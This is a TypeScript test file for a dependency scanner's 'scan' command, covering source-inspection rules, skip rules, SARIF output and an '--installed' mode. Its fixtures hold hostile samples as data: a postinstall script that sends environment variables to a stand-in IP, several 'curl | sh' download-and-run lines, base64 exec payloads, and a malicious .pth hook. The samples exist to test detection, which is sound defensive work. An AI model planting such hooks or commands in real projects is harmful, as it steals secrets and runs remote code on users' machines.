/**
 * `scan` with source inspection of the project (rule ids `source/<rule>`, the nearest manifest's ecosystem
 * or null, `--fail-on`, `--no-source`, the shared skip rule) and `scan --installed`; all offline.
 */
import assert from 'node:assert/strict';
import { chmod, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { test, type TestContext } from 'node:test';
import type { Log } from 'sarif';
import type { ReportFinding, ScanReport } from '../../shared/src/cli/scanReport';
import { nearestEcosystem } from '../../shared/src/engine/sourceScan';
import type { ParsedManifest } from '../../shared/src/model';
import { makeWorkspace, runBuiltCliOrSkip, type CliRun } from './cliHarness';

function scan(t: TestContext, args: string[]): Promise<CliRun | undefined> {
  return runBuiltCliOrSkip(t, ['scan', ...args]);
}

const json = (run: CliRun): ScanReport => JSON.parse(run.stdout) as ScanReport;
const sourceFindings = (report: ScanReport): ReportFinding[] => report.findings.filter((f) => f.rule.startsWith('source/'));

// Install-time code that sends the environment to a public IP, and a setup.py that runs decoded data.
const PROJECT = {
  'package.json': '{ "name": "app", "scripts": { "postinstall": "node tools/post.js" }, "dependencies": { "express": "^4.19.2" } }\n',
  'tools/post.js': "require('https').get('https://198.51.100.7/?e=' + JSON.stringify(process.env));\n",
  'py/requirements.txt': 'requests==2.32.3\n',
  'py/setup.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n',
  'scripts/fetch.sh': '#!/bin/sh\ncurl -s http://198.51.100.7/run.sh | sh\n',
  // Skipped by the same rule as the manifest walk: other people's code, caches, virtualenvs.
  'node_modules/dep/index.js': "eval(atob('ZXZhbCgp'));\n",
  'vendor/lib/install.sh': 'curl -s http://198.51.100.7/x | sh\n',
  'env311/pyvenv.cfg': 'home = /usr/bin\n',
  'env311/lib/evil.py': 'import base64\nexec(base64.b64decode("eA=="))\n',
  'crate/Cargo.toml': '[package]\nname = "c"\nversion = "0.1.0"\n',
  'crate/target/debug/build/x/out.sh': 'curl -s http://198.51.100.7/x | sh\n',
};

test('source findings: source/<rule> ids, file and 1-based lines, mapped severities, nearest-manifest ecosystem; --fail-on applies', async (t) => {
  const ws = await makeWorkspace(PROJECT);
  t.after(ws.cleanup);
  const run = await scan(t, [ws.dir, '--offline', '--format', 'json']);
  if (!run) return;
  assert.equal(run.code, 1, run.stderr);
  const report = json(run);
  assert.deepEqual(Object.keys(report).sort(), ['findings', 'manifests', 'version'], 'the JSON shape is unchanged');
  const found = sourceFindings(report);
  assert.deepEqual([...new Set(found.map((f) => f.file))].sort(), ['package.json', 'py/setup.py', 'scripts/fetch.sh', 'tools/post.js'], 'nothing from node_modules, vendor, a virtualenv or target/');
  for (const f of found) {
    assert.deepEqual(Object.keys(f).sort(), ['column', 'ecosystem', 'endColumn', 'endLine', 'file', 'line', 'message', 'package', 'rule', 'severity', 'suggestion']);
    assert.ok(f.line >= 1 && f.column >= 1 && f.endLine >= f.line);
    assert.equal(f.suggestion, null);
  }
  const decode = found.find((f) => f.rule === 'source/decode-exec');
  assert.deepEqual(decode && [decode.file, decode.line, decode.column, decode.severity, decode.ecosystem], ['py/setup.py', 2, 1, 'error', 'PyPI'], 'setup.py sits beside a requirements.txt');
  const envDump = found.find((f) => f.rule === 'source/env-dump');
  assert.deepEqual(envDump && [envDump.file, envDump.severity, envDump.ecosystem], ['tools/post.js', 'error', 'npm'], 'tools/ has no manifest: the root package.json is the nearest');
  const hook = found.find((f) => f.rule === 'source/install-script');
  assert.deepEqual(hook && [hook.file, hook.line, hook.severity, hook.ecosystem], ['package.json', 1, 'information', 'npm']);
  assert.ok(found.every((f) => ['error', 'warning', 'information'].includes(f.severity)));

  // --fail-on: only information findings left once the errors are gone.
  const hooksOnly = await makeWorkspace({ 'package.json': PROJECT['package.json'], 'tools/post.js': 'console.log("installed");\n' });
  t.after(hooksOnly.cleanup);
  const mild = await scan(t, [hooksOnly.dir, '--offline', '--format', 'json']);
  assert.ok(mild);
  assert.ok(sourceFindings(json(mild)).length > 0 && sourceFindings(json(mild)).every((f) => f.severity === 'information'), mild.stdout);
  assert.equal(mild.code, 0, 'information does not fail the default --fail-on error');
  assert.equal((await scan(t, [hooksOnly.dir, '--offline', '--fail-on', 'information']))?.code, 1);

  const withoutSource = await scan(t, [ws.dir, '--offline', '--format', 'json', '--no-source']);
  assert.ok(withoutSource);
  assert.deepEqual(sourceFindings(json(withoutSource)), []);
  assert.equal(withoutSource.code, 0);
});

test('a source finding above every manifest has ecosystem null; text and SARIF carry source rules', async (t) => {
  const ws = await makeWorkspace({ 'deploy/setup.sh': '#!/bin/sh\ncurl -s http://198.51.100.7/run.sh | sh\n', 'app/requirements.txt': 'flask==3.0.3\n' });
  t.after(ws.cleanup);
  const run = await scan(t, [ws.dir, '--offline', '--format', 'json']);
  if (!run) return;
  const found = sourceFindings(json(run));
  assert.ok(found.length > 0, run.stdout);
  assert.ok(found.every((f) => f.file === 'deploy/setup.sh' && f.ecosystem === null), JSON.stringify(found));

  const text = await scan(t, [ws.dir, '--offline']);
  assert.ok(text);
  assert.match(text.stdout, /^deploy\/setup\.sh\n {2}deploy\/setup\.sh:2:\d+ \w+ source\/download-exec /m);

  const sarif = await scan(t, [ws.dir, '--offline', '--format', 'sarif']);
  assert.ok(sarif);
  const sarifRun = (JSON.parse(sarif.stdout) as Log).runs[0];
  assert.ok(sarifRun);
  const rule = sarifRun.tool.driver.rules?.find((r) => r.id === 'source/download-exec');
  assert.match(rule?.shortDescription?.text ?? '', /Source inspection/);
  const result = sarifRun.results?.find((r) => r.ruleId === 'source/download-exec');
  assert.equal(result?.locations?.[0]?.physicalLocation?.artifactLocation?.uri, 'deploy/setup.sh');
  assert.equal(result?.locations?.[0]?.physicalLocation?.region?.startLine, 2);
  const fingerprints = (sarifRun.results ?? []).map((r) => Object.values(r.partialFingerprints ?? {})[0]);
  assert.equal(new Set(fingerprints).size, fingerprints.length);
});

test('nearestEcosystem: own folder first, the file language breaks ties, then upwards, else null', () => {
  const manifest = (file: string, ecosystem: ParsedManifest['ecosystem']): { file: string; manifest: ParsedManifest } => ({
    file,
    manifest: { kind: 'requirements', ecosystem, dependencies: [], errors: [] },
  });
  const manifests = [manifest('package.json', 'npm'), manifest('svc/Cargo.toml', 'crates.io'), manifest('svc/pyproject.toml', 'PyPI')];
  assert.equal(nearestEcosystem('svc/build.rs', manifests), 'crates.io');
  assert.equal(nearestEcosystem('svc/setup.py', manifests), 'PyPI');
  assert.equal(nearestEcosystem('svc/run.sh', manifests), 'crates.io', 'no language match: the first manifest by path');
  assert.equal(nearestEcosystem('svc/deep/x/y.py', manifests), 'PyPI');
  assert.equal(nearestEcosystem('tools/post.js', manifests), 'npm');
  assert.equal(nearestEcosystem('tools/post.js', [manifest('other/package.json', 'npm')]), null);
});

test('scan --installed: a .pth hook in site-packages and a node_modules install script; exit 1; --python without --installed is a usage error', async (t) => {
  const ws = await makeWorkspace({
    'site/evil_hook.pth': "import os; os.system('curl -s http://198.51.100.7/x | sh')\n",
    'site/fine.pth': '/opt/lib/extra\n',
    'node_modules/evil-pkg/package.json': '{ "name": "evil-pkg", "version": "1.0.0", "scripts": { "postinstall": "node install.js" } }\n',
    'node_modules/evil-pkg/install.js': "require('child_process').execSync('curl -s http://198.51.100.7/p.sh | sh');\n",
    'node_modules/ok-pkg/package.json': '{ "name": "ok-pkg", "version": "1.0.0" }\n',
  });
  t.after(ws.cleanup);
  // A stand-in interpreter: answers the site-packages question with the fixture folder (spawned, no shell).
  const python = path.join(ws.dir, 'fake-python');
  await writeFile(python, `#!/bin/sh\necho '${JSON.stringify({ site: [path.join(ws.dir, 'site')], user: null })}'\n`);
  await chmod(python, 0o755);
  const run = await scan(t, ['--installed', '--python', python, '--node-modules', path.join(ws.dir, 'node_modules'), '--format', 'json']);
  if (!run) return;
  assert.equal(run.code, 1, run.stdout + run.stderr);
  const report = JSON.parse(run.stdout) as { pthFiles: number; nodePackages: number; findings: Array<{ rule: string; file: string; severity: string; package?: string }> };
  assert.equal(report.pthFiles, 2);
  assert.equal(report.nodePackages, 2);
  const pth = report.findings.find((f) => f.file.endsWith('evil_hook.pth'));
  assert.equal(pth?.severity, 'critical', JSON.stringify(report.findings));
  assert.ok(report.findings.some((f) => f.package?.startsWith('evil-pkg') && f.severity === 'critical'), JSON.stringify(report.findings));
  assert.ok(!report.findings.some((f) => f.file.endsWith('fine.pth') || f.package?.startsWith('ok-pkg')));

  const text = await scan(t, ['--installed', '--python', python, '--node-modules', path.join(ws.dir, 'node_modules')]);
  assert.ok(text);
  assert.match(text.stdout, /^Checked 2 \.pth file\(s\) in 1 site-packages folder\(s\) and 2 npm package\(s\)/);
  assert.match(text.stdout, /^CRITICAL .*evil_hook\.pth/m);

  const help = await scan(t, ['--help']);
  assert.match(help?.stdout ?? '', /--installed .*\n.*\n {2}--python INTERPRETER/);
  const misuse = await scan(t, [ws.dir, '--python', python]);
  assert.equal(misuse?.code, 2);
  assert.match(misuse?.stderr ?? '', /--python only applies with --installed/);
  const badFormat = await scan(t, ['--installed', '--format', 'sarif']);
  assert.equal(badFormat?.code, 2);
});
